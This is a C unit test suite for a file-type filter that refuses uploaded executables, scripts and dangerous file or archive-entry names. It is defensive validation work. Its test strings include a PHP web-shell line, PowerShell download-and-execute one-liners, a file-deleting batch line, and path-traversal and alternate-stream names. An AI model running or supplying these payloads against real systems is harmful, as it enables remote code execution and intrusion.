/*
 * test_filetype.c: file types by content and name (fb_filetype), with
 * the machine's libmagic database: every name and content issue 27
 * found accepted is refused, and the files a support desk receives are
 * not.
 */
#include <string.h>

#include "fb_filetype.h"
#include "unit.h"

#define B(s) ((const unsigned char *)(s)), (sizeof(s) - 1)

static magic_t magic(void)
{
    magic_t m = fb_filetype_magic(ut_pool);

    CU_ASSERT_FATAL(m != NULL);
    return m;
}

static void test_types(void)
{
    magic_t m = magic();

    UT_ASSERT_STR(fb_filetype_of(ut_pool, m, B("\x89PNG\r\n\x1a\n"
                                              "\0\0\0\rIHDR\0\0\0\1\0\0\0\1"
                                              "\x08\x06\0\0\0")),
                  "image/png");
    UT_ASSERT_STR(fb_filetype_of(ut_pool, m,
                                 B("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")),
                  "application/pdf");
    UT_ASSERT_STR(fb_filetype_of(ut_pool, m, B("hello, plain text\n")),
                  "text/plain");
    /* Empty input still has an answer; so has no database. */
    CU_ASSERT_PTR_NOT_NULL(fb_filetype_of(ut_pool, m, B("")));
    UT_ASSERT_STR(fb_filetype_of(ut_pool, NULL, B("hello\n")),
                  "application/octet-stream");
}

/* The phrase content_refused gives b (typed by libmagic), or NULL. */
static const char *refused(const char *b, apr_size_t n)
{
    const unsigned char *u = (const unsigned char *)b;

    return fb_filetype_content_refused(
        ut_pool, u, n, fb_filetype_of(ut_pool, magic(), u, n));
}

#define REFUSED(s) refused((s), sizeof(s) - 1)

static void test_programs_by_content(void)
{
    static const struct {
        const char *bytes;
        apr_size_t n;
        const char *why;
    } cases[] = {
        {"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0", 16, "a Windows program"},
        {"\x7f" "ELF\2\1\1\0", 8, "an ELF program"},
        {"#!/bin/sh\necho hi\n", 18, "a script with #!"},
        {"\xcf\xfa\xed\xfe\7\0\0\1", 8, "a Mach-O program"},
        {"\xfe\xed\xfa\xce\0\0\0\7", 8, "a Mach-O program"},
        {"\xca\xfe\xba\xbe\0\0\0\x34", 8, "a Mach-O or Java class program"},
        {"dex\n035\0", 8, "an Android (Dalvik) program"},
        {"\x89PNG\r\n\x1a\n", 8, NULL},
        {"%PDF-1.4\n", 9, NULL},
        {"M", 1, NULL},
        {"", 0, NULL},
    };
    apr_size_t i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (!UT_ASSERT_STR(refused(cases[i].bytes, cases[i].n),
                           cases[i].why)) {
            UT_ASSERT_INT(i, -1);
        }
    }
    /* By type alone. */
    UT_ASSERT_STR(fb_filetype_content_refused(ut_pool, B("echo"),
                                              "text/x-shellscript"),
                  "a program or script, text/x-shellscript");
    CU_ASSERT_PTR_NOT_NULL(fb_filetype_content_refused(
        ut_pool, B("x"), "application/x-dosexec"));
    CU_ASSERT_PTR_NOT_NULL(fb_filetype_content_refused(
        ut_pool, B("x"), "application/java-archive"));
    CU_ASSERT_PTR_NOT_NULL(fb_filetype_content_refused(
        ut_pool, B("x"), "application/vnd.debian.binary-package"));
    CU_ASSERT_PTR_NULL(fb_filetype_content_refused(ut_pool, B("x"),
                                                   "image/png"));
    CU_ASSERT_PTR_NULL(fb_filetype_content_refused(ut_pool, B("x"), NULL));
}

/* Scripts without "#!": libmagic's verdict where it tells (Python with
 * a function, PHP, batch), the first lines table where it does not. */
static void test_scripts_without_shebang(void)
{
    static const struct {
        const char *text;
        const char *why;
    } cases[] = {
        /* libmagic's own. */
        {"import os\nimport sys\n\ndef main():\n    os.system(\"ls\")\n\n"
         "if __name__ == \"__main__\":\n    main()\n",
         "a program or script, text/x-script.python"},
        {"<?php system($_GET['c']); ?>\n",
         "a program or script, text/x-php"},
        {"@echo off\r\ndel /q C:\\x\r\n",
         "a program or script, text/x-msdos-batch"},
        /* The table's. */
        {"import os\nos.system('id')\n", "a Python script"},
        {"# fetch it\nimport urllib.request as u\n", "a Python script"},
        {"$client = New-Object System.Net.WebClient\n"
         "$client.DownloadFile(\"http://x/a.exe\", \"$env:TEMP\\a.exe\")\n"
         "Start-Process \"$env:TEMP\\a.exe\"\n", "a PowerShell script"},
        {"\xef\xbb\xbf<#\n .SYNOPSIS\n  Cleans up\n#>\r\n"
         "param([string]$Path)\r\nGet-ChildItem $Path\r\n",
         "a PowerShell script"},
        {"IEX (New-Object Net.WebClient).DownloadString('http://x/')\n",
         "a PowerShell script"},
        {"Set objShell = CreateObject(\"WScript.Shell\")\n"
         "objShell.Run \"calc.exe\"\n", "a VBScript script"},
        {"' a comment\nOn Error Resume Next\nDim fso\n",
         "a VBScript script"},
        {"use strict;\nuse warnings;\nprint \"hi\\n\";\n", "a Perl script"},
        /* Prose, logs, tracebacks, other languages' imports. */
        {"Hello,\n\nthe import of our data failed yesterday.\n", NULL},
        {"Traceback (most recent call last):\n  File \"x.py\", line 1, in "
         "<module>\n    import os\nOSError: boom\n", NULL},
        {"# Notes\n\nWe ran the script below.\n\nSome more prose.\n\n"
         "And more.\n\nimport os\n", NULL},
        {"import java.util.List;\n\nclass A {}\n", NULL},
        {"package main\n\nimport (\n\t\"fmt\"\n)\n", NULL},
        {"Set up the printer first.\nThen restart.\n", NULL},
        {"2024-01-01 12:00:00 INFO started\n", NULL},
    };
    apr_size_t i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (!UT_ASSERT_STR(refused(cases[i].text, strlen(cases[i].text)),
                           cases[i].why)) {
            UT_ASSERT_INT(i, -1);
        }
    }
    /* Only text is read for script lines. */
    CU_ASSERT_PTR_NULL(fb_filetype_content_refused(
        ut_pool, B("import os\n"), "application/octet-stream"));
}

static void test_names(void)
{
    static const struct {
        const char *name;
        const char *why;
    } cases[] = {
        /* Issue 27's: by name. */
        {"tool.py", "a name with .py"},
        {"tool.pl", "a name with .pl"},
        {"shell.php", "a name with .php"},
        {"launch.desktop", "a name with .desktop"},
        {"package.deb", "a name with .deb"},
        {"firmware.bin", "a name with .bin"},
        {"a.exe;.png", "a name with ';'"},
        {"a.exe::$DATA", "a name with ':', an NTFS alternate stream"},
        {"a.exe.", "a name ending in a dot or a space"},
        {"a.exe ", "a name ending in a dot or a space"},
        {"a.exe . ", "a name ending in a dot or a space"},
        /* Any part, any case. */
        {"a.exe.png", "a name with .exe"},
        {"report.PDF.Py.txt", "a name with .Py"},
        {"a.exe .png", "a name with .exe"},
        {"SETUP.EXE", "a name with .EXE"},
        {"x.Ps1", "a name with .Ps1"},
        {"lib.jar", "a name with .jar"},
        {".sh", "a name with .sh"},
        {"example.com.png", "a name with .com"},
        /* Characters no stored name holds. */
        {"a\nb.png", "a name with a control character"},
        {"a\x7f.png", "a name with a control character"},
        {"dir/a.png", "a name with a slash"},
        {"dir\\a.png", "a name with a slash"},
        /* Accepted. */
        {"photo.png", NULL}, {"exe", NULL}, {"report.pdf", NULL},
        {"archive.tar.gz", NULL}, {"noext", NULL}, {"", NULL},
        {"x.shx", NULL}, {"sh.txt", NULL}, {"py", NULL},
        {"v1.2.3.pdf", NULL}, {"r\xc3\xa9sum\xc3\xa9 (2).docx", NULL},
        {"notes.binary", NULL}, {"a.pyx.txt", NULL},
    };
    apr_size_t i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (!UT_ASSERT_STR(fb_filetype_name_refused(ut_pool, cases[i].name),
                           cases[i].why)) {
            UT_ASSERT_INT(i, -1);
        }
    }
    CU_ASSERT_PTR_NULL(fb_filetype_name_refused(ut_pool, NULL));
}

static void test_entry_paths(void)
{
    static const struct {
        const char *path;
        const char *why;
    } cases[] = {
        {"bin/setup.exe", "a name with .exe"},
        {"Foo.app/Contents/MacOS/Foo", "a name with .app"},
        {"dir\\tool.PY", "a name with .PY"},
        {"../../etc/cron.d/x", "a path out of its folder (..)"},
        {"a/../b", "a path out of its folder (..)"},
        {"a.exe::$DATA", "a name with .exe"},
        {"notes.txt:evil.exe", "a name with .exe"},
        {"dir./x", "a name ending in a dot or a space"},
        {"x\ty", "a name with a control character"},
        /* Accepted: ./ prefixes, folders, times with ':' and ';'. */
        {"./", NULL}, {"./logs/app.log", NULL}, {"/abs/file.txt", NULL},
        {"docs/", NULL}, {"pod_2024-01-01T12:00:00.log", NULL},
        {"a;b.txt", NULL}, {"word/document.xml", NULL},
        {"[Content_Types].xml", NULL},
    };
    apr_size_t i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (!UT_ASSERT_STR(fb_filetype_path_refused(ut_pool, cases[i].path),
                           cases[i].why)) {
            UT_ASSERT_INT(i, -1);
        }
    }
}

static void test_inline(void)
{
    CU_ASSERT(fb_filetype_inline("image/png"));
    CU_ASSERT(fb_filetype_inline("image/jpeg"));
    CU_ASSERT(fb_filetype_inline("image/gif"));
    CU_ASSERT(fb_filetype_inline("image/webp"));
    CU_ASSERT(!fb_filetype_inline("image/svg+xml"));
    CU_ASSERT(!fb_filetype_inline("text/html"));
    CU_ASSERT(!fb_filetype_inline("application/pdf"));
    CU_ASSERT(!fb_filetype_inline("text/plain"));
    CU_ASSERT(!fb_filetype_inline("image/x-ms-bmp"));
    CU_ASSERT(!fb_filetype_inline(NULL));
}

void test_filetype_register(void)
{
    static const ut_test_t tests[] = {
        {"types by content", test_types},
        {"programs by content", test_programs_by_content},
        {"scripts without #!", test_scripts_without_shebang},
        {"names", test_names},
        {"archive entries' paths", test_entry_paths},
        {"only raster images inline", test_inline},
        {NULL, NULL}
    };

    ut_add_suite("fb_filetype", NULL, NULL, NULL, NULL, tests);
}
